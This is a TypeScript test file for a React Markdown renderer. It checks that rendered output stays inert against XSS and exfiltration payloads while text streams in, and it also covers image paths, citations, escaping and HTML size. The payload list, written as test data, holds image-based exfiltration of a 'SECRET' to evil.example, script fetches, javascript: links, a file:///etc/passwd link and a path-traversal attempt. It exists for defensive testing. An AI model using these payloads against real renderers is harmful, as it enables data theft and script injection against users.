import fc from 'fast-check'
import { createElement } from 'react'
import { renderToStaticMarkup } from 'react-dom/server'
import { describe, expect, test } from 'vitest'
import { asWritten, htmlBytesOf, parseMarkdown } from '@plinth/core/markdown'
import { markdownPieces } from '@plinth/testing/markdown-pieces.ts'
import { openLiveParser } from './live-parser.ts'
import { Markdown } from './markdown.tsx'

const payloads = [
  '![x](https://evil.example/?d=SECRET)',
  '![x][r]\n\n[r]: https://evil.example/r.png',
  '<img src="https://evil.example/i.png" onerror="alert(1)">',
  '<img src=x onerror=alert(1)//',
  '<script>fetch("https://evil.example")</script>',
  '<iframe src="https://evil.example"></iframe>',
  '<svg onload=alert(1)><animate onbegin=alert(2)></svg>',
  '<style>@import "https://evil.example"</style>',
  '<link rel="preload" as="image" href="https://evil.example/l.png">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<form action="https://evil.example"><input name=q></form>',
  '<video src="https://evil.example/v.mp4" autoplay></video>',
  '<object data="https://evil.example"></object><embed src="https://evil.example">',
  '<base href="https://evil.example">',
  '[a](javascript:alert(1))',
  '[a](JaVaScRiPt:alert(1))',
  '[a](&#106;avascript:alert(1))',
  '[a](java\tscript:alert(1))',
  '[a](data:text/html,<script>alert(1)</script>)',
  '[a](vbscript:msgbox(1))',
  '[a](file:///etc/passwd)',
  '[a](blob:https://evil.example/1)',
  '<javascript:alert(1)>',
  '![a](data:image/svg+xml;base64,PHN2Zz4=)',
  '[![a](https://evil.example/in-a-link.png)](https://evil.example)',
  '| a |\n| - |\n| ![x](//evil.example/t.png) |',
  '[^1]\n\n[^1]: ![x](https://evil.example/f.png)',
  '[1](#citation-1) <a href="#citation-1" onclick="alert(1)">1</a>',
]

const html = (text: string) =>
  renderToStaticMarkup(
    createElement(Markdown, {
      tree: parseMarkdown(text, 'answer').tree,
      renderCitation: (number) => `(${number})`,
    }),
  )
/**
 * Anything that loads, runs or navigates on its own: elements that load, handlers, links to targets that are
 * not pages.
 */
const DANGEROUS =
  /<(?:img|script|iframe|svg|style|link|meta|form|input|video|audio|object|embed|base)\b|<[^>]*\s(?:on\w+|src)=|href="(?!https?:|mailto:|#|\/|[^":]*")/i

describe('content of other users', () => {
  test.each(payloads)('is inert at every point of streaming: %s', (payload) => {
    for (let end = 1; end <= payload.length; end += 1)
      expect(html(payload.slice(0, end))).not.toMatch(DANGEROUS)
  })

  test('has external links that open in a new tab and send no referrer', () => {
    expect(html('[there](https://example.org)')).toContain(
      'href="https://example.org" rel="noopener noreferrer nofollow ugc" target="_blank"',
    )
  })
})

describe('an image of the site', () => {
  const shown = (text: string) =>
    renderToStaticMarkup(
      createElement(Markdown, { tree: parseMarkdown(text, 'text').tree, imagesFrom: '/api/files/pots/' }),
    )

  test('is shown in its size below the path that the page names', () => {
    expect(shown('![A kiln](/api/files/pots/0ab#800x600)')).toMatch(
      /<img src="\/api\/files\/pots\/0ab#800x600" alt="A kiln" width="800" height="600" loading="lazy"/,
    )
  })

  test.each([
    '![x](/api/files/pots/0ab)',
    '![x](/api/files/pots/../../auth/get-session#8x8)',
    '![x](/api/files/pots/0ab?x#8x8)',
    '![x](/api/files/0ab#8x8)',
    '![x](https://evil.example/api/files/pots/0ab#8x8)',
    '![x](//evil.example/api/files/pots/0ab#8x8)',
    '![x](\\api/files/pots/0ab#8x8)',
  ])('is nothing else: %s is a link', (text) => {
    expect(shown(text)).not.toMatch(DANGEROUS)
  })
})

describe('a citation', () => {
  test('is a [1] in the text', () => {
    expect(html('Said so. [1] And so [2][3].')).toContain('Said so. (1) And so (2)(3).')
  })

  test('is not an escaped [1], nor one in code, in a link or as a footnote', () => {
    expect(html('As \\[1] says.\n\n[2]')).toContain('<p>As [1] says.</p><p>(2)</p>')
    expect(html('`list[1]` and [see [1] there](https://example.org)')).not.toContain('(1)')
  })
})

test('what stands in angle brackets is text, and so is what stands between single tildes', () => {
  const shown = html(
    'Press <Enter>, then git checkout <branch>. <!-- no -->\n\n<div>\n*In* it\n</div>\n\nIt takes 3~5 days, 1~2 at best, ~~never~~.',
  )
  expect(shown).toContain('<p>Press &lt;Enter&gt;, then git checkout &lt;branch&gt;. &lt;!-- no --&gt;</p>')
  expect(shown).toContain('&lt;div&gt;\n<em>In</em> it\n&lt;/div&gt;')
  expect(shown).toContain('It takes 3~5 days, 1~2 at best, <del>never</del>.')
})

describe('the size of the HTML is known from the tree', () => {
  const expectKnown = (text: string) => {
    const { tree } = parseMarkdown(text, 'answer')
    const known = htmlBytesOf(tree)
    // What is around it, whatever is in it.
    if (known < Infinity) expect(Buffer.byteLength(html(text))).toBeLessThanOrEqual(known + 200)
  }

  test.each([
    ['a code', '`a`'],
    ['a block of code', '```a\n```'],
    ['a task', '- [ ] a'],
    ['a table', '|a|b|\n|:-:|-|\n|c|d|'],
    ['an image', '![a](/b#8x8)'],
    ['a link', '[a](/b?c&d)'],
    ['a footnote', 'a[^b]\n\n[^b]: c'],
    ['a heading', '#### a'],
    ['a formula', '$a$'],
    ['a rule', '---'],
    ['a citation', '[1]'],
  ])('%s', (_, text) => {
    for (const count of [1, 10]) expectKnown(`${text}\n\n`.repeat(count))
  })

  test('anything', () => {
    const mixed = fc.array(fc.constantFrom(...markdownPieces), { maxLength: 60 })
    fc.assert(
      fc.property(mixed, (parts) => expectKnown(parts.join(''))),
      { numRuns: 300 },
    )
  })
})

test('on a slow machine a text is shown as it was written from the second slow part on', () => {
  let clock = 0
  const open = () => openLiveParser('text', () => (clock += 300))
  const words = (length: number) => 'some *words* '.repeat(400).slice(0, length)
  const parse = open()
  expect(parse(words(1_900))).toEqual(parseMarkdown(words(1_900), 'text').tree)
  expect(parse(words(1_950))).toEqual(asWritten(words(1_950)))
  expect(open()(words(5_000))).toEqual(asWritten(words(5_000)))
})
